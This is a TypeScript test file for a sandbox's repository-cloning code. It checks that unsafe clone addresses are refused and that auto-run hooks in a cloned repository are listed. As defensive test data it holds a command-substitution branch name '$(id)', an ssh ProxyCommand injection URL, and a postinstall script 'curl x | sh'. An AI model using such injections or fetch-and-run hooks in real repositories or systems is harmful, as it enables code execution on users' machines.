import { CloneState } from "@threadbox/contracts/repository";
import type { ExecRequest, ExecResult, FileEntry } from "@threadbox/contracts/sandbox-host";
import { Effect, Schema } from "effect";
import { expect, test } from "vitest";
import { SandboxNotFoundError, type WorkspaceFiles } from "../sandbox/index.ts";
import { cloneExit } from "./clone-program.ts";
import { cloneInto, cloneState, settledClone } from "./cloning.ts";

const unused = () => Effect.die("not asked for");
const url = "https://git.example/a/b";
const ended = (stdout: string, exitCode = 0): ExecResult => ({
  exitCode,
  stdout,
  stderr: "",
  isTruncated: false,
  isTimedOut: false,
  durationMs: 1,
});

/** A workspace with these files, in which programs answer in order; the last answer is repeated. */
const workspace = (answers: readonly ExecResult[], held: Readonly<Record<string, string>> = {}) => {
  const asked: ExecRequest[] = [];
  const entry = (name: string): FileEntry => ({ name, kind: "file", sizeBytes: 1, modifiedAt: 0 });
  const namesBelow = (folder: string) => [
    ...new Set(
      Object.keys(held)
        .filter((path) => path.startsWith(folder))
        .map((path) => path.slice(folder.length).split("/")[0] ?? ""),
    ),
  ];
  const files: WorkspaceFiles = {
    read: (path) => {
      const text = held[path];
      if (text === undefined) return Effect.fail(new SandboxNotFoundError({ what: path }));
      const stream = new Response(text).body;
      return stream === null ? unused() : Effect.succeed({ sizeBytes: text.length, version: "v" as never, stream });
    },
    write: unused,
    remove: unused,
    move: unused,
    makeFolder: unused,
    list: (path) => Effect.succeed(namesBelow(path === "" ? "" : `${path}/`).map(entry)),
    exec: (request) => {
      asked.push(request);
      return Effect.succeed(answers[Math.min(asked.length, answers.length) - 1] ?? ended(""));
    },
    trial: unused,
  };
  return { files, asked };
};
const refusalOf = (work: Effect.Effect<unknown, { readonly wireTag: string }>) =>
  Effect.runPromise(Effect.map(Effect.flip(work), ({ wireTag }) => wireTag));

test("A49, A65: git is given nothing but an https address of a public host, and as one argument each", async () => {
  const { files, asked } = workspace([ended("")]);
  await Effect.runPromise(cloneInto(files, { url: "a/b", branch: "$(id)", isShallow: true }));
  expect(asked[0]?.argv.slice(3)).toEqual(["clone", "https://github.com/a/b", "$(id)", "1", "/workspace"]);
  for (const bad of ["file:///etc", "https://127.0.0.1/x", "ssh://-oProxyCommand=id/x", "http://git.example/x"])
    expect(await refusalOf(cloneInto(files, { url: bad }))).toBe("UrlBlocked");
  expect(await refusalOf(cloneInto(files, { url: "https://me:secret@git.example/x" }))).toBe("ValidationError");
  expect(asked).toHaveLength(1);
});

test.each([
  [cloneExit.isRunning, "AlreadyRunning"],
  [cloneExit.isNotEmpty, "Conflict"],
  [127, "SandboxUnavailable"],
] as const)("a start that ends with %i is refused as %s", async (code, tag) => {
  expect(await refusalOf(cloneInto(workspace([ended("", code)]).files, { url }))).toBe(tag);
});

test("A57: what the repository would have run is listed, by whom, and nothing else of it", async () => {
  const done = ended(`0\0${url}\0\0${"a".repeat(40)}\0main\0`);
  const { files } = workspace([done], {
    "opencode.json": "{}",
    ".opencode/plugins/x.js": "",
    ".envrc": "",
    ".vscode/tasks.json": "{}",
    ".gitmodules": "",
    "package.json": JSON.stringify({ scripts: { postinstall: "curl x | sh", test: "vitest", prepare: "husky" } }),
    "src/index.ts": "",
  });
  const state = await Effect.runPromise(cloneState(files));
  expect(Schema.is(CloneState)(state)).toBe(true);
  expect(state).toMatchObject({
    hasSubmodules: true,
    wouldRun: [
      { path: "opencode.json", by: "opencode" },
      { path: ".opencode", by: "opencode" },
      { path: ".envrc", by: "shell" },
      { path: ".vscode/tasks.json", by: "editor" },
      { path: "package.json: postinstall", by: "install" },
      { path: "package.json: prepare", by: "install" },
    ],
  });
});

test.each(["{", "[]", '{"scripts":7}', '{"scripts":{"install":{}}}', "x".repeat(300_000)])(
  "a manifest that is none (%#) has nothing run",
  async (manifest) => {
    const { files } = workspace([ended(`0\0${url}\0\0\0\0`)], { "package.json": manifest });
    expect(await Effect.runPromise(cloneState(files))).toMatchObject({ wouldRun: [], hasSubmodules: false });
  },
);

test("whoever waits for the end is told it, and waits once for each minute it takes", async () => {
  const running = ended(`running\0${url}\0Receiving objects:  1% (1/9)\0`);
  const { files, asked } = workspace([ended(""), running, ended(""), ended(`0\0${url}\0\0\0\0`)]);
  expect(await Effect.runPromise(settledClone(files))).toMatchObject({ status: "done" });
  expect(asked).toHaveLength(4);
});
